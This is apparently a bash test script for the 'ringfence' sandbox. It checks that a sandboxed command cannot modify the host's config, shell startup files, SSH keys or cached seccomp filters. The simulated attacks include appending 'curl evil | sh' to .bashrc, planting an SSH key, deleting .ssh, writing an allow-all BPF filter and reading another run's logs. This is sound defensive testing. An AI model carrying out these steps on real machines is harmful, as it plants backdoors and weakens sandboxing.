#!/usr/bin/env bash
# What configures the *next* sandbox stays out of this one's reach, even
# when the workspace is a home directory: ringfence's user config (a trusted
# layer), the seccomp filter cache, shell startup files, ~/.ssh.
. "$(dirname "$0")/../lib.sh"

home="$WS"  # the workspace plays a home directory
mkdir -p "$home/.config/ringfence" "$home/.ssh"
printf '{"network": "none"}\n' > "$home/.config/ringfence/config.json"
echo 'echo hello' > "$home/.bashrc"
echo 'ssh-ed25519 AAAA user@host' > "$home/.ssh/authorized_keys"
export RINGFENCE_HOME="$home/.ringfence"  # the instance root inside the workspace

expect_exit 0 "a sandbox whose workspace holds a home directory runs" \
    rf run --workspace "$home" -- sh -c '
        printf "{\"network\": \"host\"}\n" > .config/ringfence/config.json 2>/dev/null; echo "cfg=$?"
        echo "curl evil | sh" >> .bashrc 2>/dev/null; echo "rc=$?"
        echo "ssh-rsa EVIL" >> .ssh/authorized_keys 2>/dev/null; echo "ssh=$?"
        rm -rf .ssh 2>/dev/null; mv .bashrc x 2>/dev/null; echo done'
grep -q '"none"' "$home/.config/ringfence/config.json" && pass "ringfence's user config is unchanged" ||
    fail "ringfence's user config is unchanged"
grep -q evil "$home/.bashrc" && fail "~/.bashrc is unchanged" || pass "~/.bashrc is unchanged"
grep -q EVIL "$home/.ssh/authorized_keys" && fail "~/.ssh/authorized_keys is unchanged" ||
    pass "~/.ssh/authorized_keys is unchanged"
check "~/.ssh and ~/.bashrc still exist" test -f "$home/.ssh/authorized_keys" -a -f "$home/.bashrc"

# The instance root inside the workspace (a home as the workspace) holds
# what the next sandbox trusts: the compiled seccomp filters in cache/. A
# sandbox that rewrote them would weaken every later start, also of runs
# whose workspace is elsewhere. It is hidden: an empty read-only directory
# with only the user environment bound into it (firejail: its entries
# blacklisted; podman: bound read-only).
mkdir -p "$home/project" "$home/.ringfence/logs"
chown --reference="$home" "$home/project"  # a backend's sandbox user (lib.sh: hand_workspace) owns it too
echo "secret-log-$$-x9" >"$home/.ringfence/logs/other-run.log"
rf run --workspace "$home/project" -- true  # fills the cache (not in reach from there)
allow_all='\006\000\000\000\000\000\377\177'  # BPF: return SECCOMP_RET_ALLOW
sums() { (cd "$home/.ringfence" && find cache -type f | sort | xargs -r sha256sum); }
before=$(sums)
expect_exit 0 "a sandbox in the home directory tries to rewrite the filter cache" \
    rf run --workspace "$home" -- sh -c '
        for f in .ringfence/cache/seccomp-*.bpf; do printf "$1" > "$f"; done 2>/dev/null
        mkdir -p .ringfence/cache 2>/dev/null; printf "$1" > .ringfence/cache/seccomp-planted.bpf 2>/dev/null
        cat .ringfence/logs/*.log 2>/dev/null; ls -A .ringfence/cache 2>/dev/null; touch "$HOME/.rf-home-ok"' sh "$allow_all"
check "the filter cache is unchanged on the host" test "$(sums)" = "$before"
check "nothing was planted in the cache" test ! -e "$home/.ringfence/cache/seccomp-planted.bpf"
lacks "another run's log stays unread" "$OUT" "secret-log-$$-x9"
lacks "the cache's entries are not even listed" "$OUT" "seccomp-"
check "control: the command's own HOME inside it is writable" test -e "$home/.ringfence/runtime-user-env/.rf-home-ok"
# The consequence: a later run elsewhere still has the full filter.
expect_exit 1 "a later run from a project still refuses unshare -U" \
    rf run --workspace "$home/project" -- unshare -U true
expect_exit 125 "the instance root itself as the workspace is refused" rf run --workspace "$home/.ringfence" -- true
contains "…naming it" "$ERR" "is ringfence's instance root"

# Outside the workspace the cache is used (the positive control).
export RINGFENCE_HOME="$SCRATCH/rfhome-outside"
rf run -- true
n=$(find "$RINGFENCE_HOME/cache" -name 'seccomp-*.bpf' 2>/dev/null | wc -l)
if [ "${RF_TEST_BACKEND:-native}" != native ]; then
    skip "control: a cache out of the sandbox's reach is used" "the $RF_TEST_BACKEND backend compiles its filter at every start"
else
    [ "$n" -ge 1 ] && pass "control: a cache out of the sandbox's reach is used" ||
        fail "control: a cache out of the sandbox's reach is used"
fi
